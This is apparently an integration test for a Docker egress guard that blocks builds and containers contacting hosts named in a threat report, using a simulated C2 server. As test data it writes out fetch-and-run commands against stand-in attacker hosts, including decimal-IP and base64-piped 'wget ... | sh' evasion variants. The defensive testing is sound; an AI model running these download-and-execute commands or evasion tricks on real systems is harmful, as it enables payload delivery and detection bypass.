import { spawn } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Test } from 'tap';
import { run, until, type Outcome } from '../support/command.js';
import { get, type Engine } from '../support/engine.js';
import { startGuard } from '../support/guard.js';
import { fetch, ownBridge, refused } from '../support/internet.js';
import { must, startHost } from '../support/namespace.js';
import { playScenes } from '../support/play-scenes.js';

// The attack of the public report, from the feed to the wire: guard and outbound process as a user runs them, a real
// engine, a C2 host of our own. All that is known of the attacker is the text of a report, defanged as vendors print it.

const CLI = fileURLToPath(new URL('../../src/cli/main.js', import.meta.url));
const REPORT = fileURLToPath(new URL('../../../test/intel/fixtures/report.txt', import.meta.url));

type Line = Readonly<Record<string, unknown>>;

export const scenes = (): Promise<void> => playScenes('the public attack', play);

/** `strict` may build and run and download, but nothing that is listed; `careless` permits everything. */
const POLICY = {
  sources: { careless: { listener: ['tcp'] }, strict: { listener: ['unix'] } },
  rules: [
    { id: 'careless', sources: ['careless'], operations: ['*'], permit: ['*'] },
    {
      id: 'strict',
      sources: ['strict'],
      operations: ['@read', '@run', '@build', '@images'],
      permit: ['download:**', 'opaque:command'],
    },
  ],
};

async function play(t: Test, docker: Engine): Promise<void> {
  const feeds = join(docker.dir, 'feeds');
  const attempts = join(docker.dir, 'attempts');
  const report = join(docker.dir, 'report.txt');
  copyFileSync(REPORT, report);
  const config = {
    feeds: {
      state: feeds,
      sources: [{ name: 'report', url: `file://${report}`, refresh: '1s', confidence: 90 }],
    },
    egress: {
      table: 'breakwater_attack',
      poll: '100ms',
      attempts: { directory: attempts },
      onHit: { action: 'pause', except: ['spared*'] },
    },
  };
  const configFile = join(docker.dir, 'egress.json');
  writeFileSync(configFile, JSON.stringify(config));
  mkdirSync(feeds, { recursive: true });

  const bridge = await ownBridge();
  const c2 = await startHost(new URL('../support/c2-host.js', import.meta.url), [], {
    outer: 'bwout',
    inner: 'c2',
    addresses: [10, 20, 30, 53, 54, 66].map((one) => `198.51.100.${one}/24`),
    via: '198.51.100.1',
  });
  t.teardown(() => c2.stop());
  await must('ip', ['address', 'add', '198.51.100.1/24', 'dev', 'bwout']);
  c2.begin();
  if (!(await until(() => c2.lines.includes('ready'), 10_000, 20)))
    throw new Error('the C2 host does not start');

  const guard = await startGuard({ upstream: docker.host, policy: POLICY, config });
  t.teardown(() => guard.stop());
  const outbound = spawn(process.execPath, [CLI, 'egress', 'run', '--config', configFile], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  t.teardown(() => void outbound.kill('SIGKILL'));
  let said = '';
  outbound.stderr.on('data', (piece: Buffer) => (said += piece.toString()));
  if (!(await until(() => said.includes('is in force'), 15_000, 20))) throw new Error(`egress run: ${said}`);

  const cli = (host: string, args: readonly string[], input?: string): Promise<Outcome> =>
    run('docker', args, {
      env: { DOCKER_HOST: host, DOCKER_CONFIG: docker.dockerConfig, DOCKER_BUILDKIT: '0' },
      timeout: 60_000,
      ...(input === undefined ? {} : { input }),
    });
  const strict = (...args: string[]): Promise<Outcome> => cli(guard.unix.host, args);
  const careless = (...args: string[]): Promise<Outcome> => cli(guard.tcp.host, args);
  const ofKind = (event: string): Line[] => guard.audit().filter((line) => line['event'] === event);
  const told = async (wanted: Line): Promise<Line | undefined> => {
    const find = (): Line | undefined =>
      ofKind('egress').find((line) => Object.entries(wanted).every(([key, value]) => line[key] === value));
    await until(() => find() !== undefined, 10_000, 50);
    return find();
  };
  const containers = async (): Promise<number> =>
    (JSON.parse((await get(docker.socket, '/containers/json?all=1')).body.toString()) as unknown[]).length;

  await t.test('the build is denied, in words that name the indicator', async (test) => {
    const known = await until(
      async () =>
        (await run(process.execPath, [CLI, 'feeds', 'lookup', '198.51.100.66', '--config', configFile]))
          .code === 0,
      15_000,
      200,
    );
    test.ok(known, 'the report is in force');
    for (const [name, command] of [
      ['as it is', 'wget http://198.51.100.66/dock/main.sh'],
      ['by name', 'curl -s https://c2.evil.example/x'],
      ['as a number', 'wget http://3325256770/dock/main.sh'],
      [
        'in base64',
        `echo ${Buffer.from('wget 198.51.100.66/dock/main.sh').toString('base64')} | base64 -d | sh`,
      ],
    ] as const) {
      const before = ofKind('decision').length;
      const built = await cli(guard.unix.host, ['build', '--no-cache', '-'], `FROM tools\nRUN ${command}\n`);
      test.not(built.code, 0, name);
      test.match(built.stderr + built.stdout, /indicator:(198\.51\.100\.66|c2\.evil\.example)/, name);
      const decision = ofKind('decision')
        .slice(before)
        .find(({ operation }) => operation === 'ImageBuild');
      test.match(decision, { verdict: 'deny', indicators: [{ feed: 'report', confidence: 90 }] }, name);
    }
    const created = await strict('create', 'tools', 'sh', '-c', 'wget http://198.51.100.66/dock/main.sh');
    test.match(created.stderr, /indicator:198\.51\.100\.66/);
    test.equal(await containers(), 0, 'nothing was run');
    const fine = await cli(
      guard.unix.host,
      ['build', '--no-cache', '-'],
      `FROM tools\nRUN ${fetch('198.51.100.10:8080/')}\n`,
    );
    test.equal(fine.code, 0, fine.stderr);
    test.match(fine.stdout, /hello 198.51.100.10/, 'another host answers');
  });

  await t.test(
    'where policy lets the build pass, the wire does not, and the report names it',
    async (test) => {
      const built = await cli(
        guard.tcp.host,
        ['build', '--no-cache', '-'],
        `FROM tools\nRUN ${fetch('198.51.100.66:8080/dock/main.sh')}\n`,
      );
      test.not(built.code, 0);
      const text = (built.stdout + built.stderr).replace(/\u001b\[\d*m/g, '');
      test.match(text, refused('198.51.100.66'));
      const step = /Running in ([0-9a-f]{12})/.exec(text)?.[1] ?? 'none';
      const attempt = await told({ kind: 'attempt', action: 'blocked', destination: '198.51.100.66' });
      test.match(attempt, {
        indicator: '198.51.100.66',
        feed: 'report',
        port: 8080,
        confidence: 90,
        protocol: 'tcp',
      });
      test.match(attempt?.['address'], new RegExp(`^${bridge.prefix}`));
      test.equal(
        (attempt?.['container'] as Line)?.['id']?.toString().slice(0, 12),
        step,
        'the container of the step',
      );
      const build = ofKind('decision').findLast(({ operation }) => operation === 'ImageBuild');
      test.match(attempt?.['createdBy'], {
        call: build?.['call'] as string,
        operation: 'ImageBuild',
        sources: ['careless'],
        client: '127.0.0.1',
      });
    },
  );

  await t.test('an address that is only put together at run time', async (test) => {
    const script = `n=$((60+6)); for i in 1 2 3; do ${fetch('198.51.100.$n:8080/')}; done; sleep 60`;
    const started = await strict('run', '-d', '--name', 'clever', 'tools', 'sh', '-c', script);
    test.equal(started.code, 0, started.stderr);
    const mine = async (kind: string): Promise<Line | undefined> => {
      const find = (): Line | undefined =>
        ofKind('egress').find(
          (line) => line['kind'] === kind && (line['container'] as Line)?.['name'] === 'clever',
        );
      await until(() => find() !== undefined, 10_000, 50);
      return find();
    };
    test.match((await mine('attempt'))?.['createdBy'], { operation: 'ContainerCreate', sources: ['strict'] });
    test.match(await mine('response'), { action: 'pause', message: 'paused' });
    const state = await get(docker.socket, '/containers/clever/json');
    test.match(JSON.parse(state.body.toString()), { State: { Paused: true } });
    await careless('rm', '-f', 'clever');
  });

  await t.test(
    'a host that is listed only later: cut off, and the sweep names who was there',
    async (test) => {
      const child = spawn(
        'docker',
        ['run', '--rm', '-i', '--name', 'spared', 'tools', 'nc', '198.51.100.30', '9000'],
        {
          env: { ...process.env, DOCKER_HOST: guard.tcp.host, DOCKER_CONFIG: docker.dockerConfig },
          stdio: ['pipe', 'pipe', 'inherit'],
        },
      );
      const lines: string[] = [];
      child.stdout.on('data', (piece: Buffer) => lines.push(piece.toString()));
      test.ok(await until(() => lines.length > 3, 15_000), 'it answers');
      writeFileSync(report, `${readFileSync(REPORT, 'utf8')}\nUpdate: a second server at 198.51.100[.]30.\n`);
      test.ok(await until(() => child.exitCode !== null, 30_000), 'the connection is cut');
      const sweep = await told({ kind: 'sweep', destination: '198.51.100.30' });
      test.match(sweep, {
        indicator: '198.51.100.30',
        container: { name: 'spared' },
        createdBy: { sources: ['careless'] },
      });
      child.kill('SIGKILL');
    },
  );

  await t.test('a report that went bad removes no protection', async (test) => {
    writeFileSync(report, '<html><title>Sign in</title></html>');
    const bad = await until(() => /report/.test(guard.log()), 10_000, 50);
    test.ok(bad, 'it is told');
    const text = (await careless('run', '--rm', 'tools', 'sh', '-c', `${fetch('198.51.100.66:8080/')} 2>&1`))
      .stdout;
    test.match(text, refused('198.51.100.66'));
    const built = await cli(
      guard.unix.host,
      ['build', '-'],
      'FROM tools\nRUN wget http://198.51.100.66/dock/main.sh\n',
    );
    test.match(built.stderr + built.stdout, /indicator:198\.51\.100\.66/);
  });
}
